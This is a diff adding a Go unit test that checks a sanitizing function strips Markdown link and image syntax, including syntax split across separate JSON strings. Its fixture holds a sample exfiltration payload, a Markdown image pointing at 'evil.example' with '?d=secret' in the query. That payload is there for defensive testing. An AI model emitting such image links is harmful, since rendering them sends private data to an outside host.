@@ -117,3 +117,18 @@ func TestValueKeepsNilContainersNil(t *testing.T) {
 	require.Equal(t, map[string]any(nil), Value(map[string]any(nil)))
 	require.Equal(t, []any{}, Value([]any{}))
 }
+
+// Two strings that are harmless alone can make a Markdown image in the JSON text of a
+// result ("![a" then "](https://…)"); no "](" is left in any string, so none can.
+func TestValueLeavesNoLinkAcrossStrings(t *testing.T) {
+	in := map[string]any{
+		"names":  []any{"![a", "](https://evil.example/x.png?d=secret)"},
+		"desc":   "see [the docs](https://docs.example) and [x](unterminated",
+		"[key](": "v",
+	}
+	out, err := json.Marshal(Value(in))
+	require.NoError(t, err)
+	require.NotContains(t, string(out), "](")
+	require.Contains(t, string(out), `"] https://evil.example/x.png?d=secret)"`)
+	require.Contains(t, string(out), "see the docs (https://docs.example) and [x] unterminated")
+}
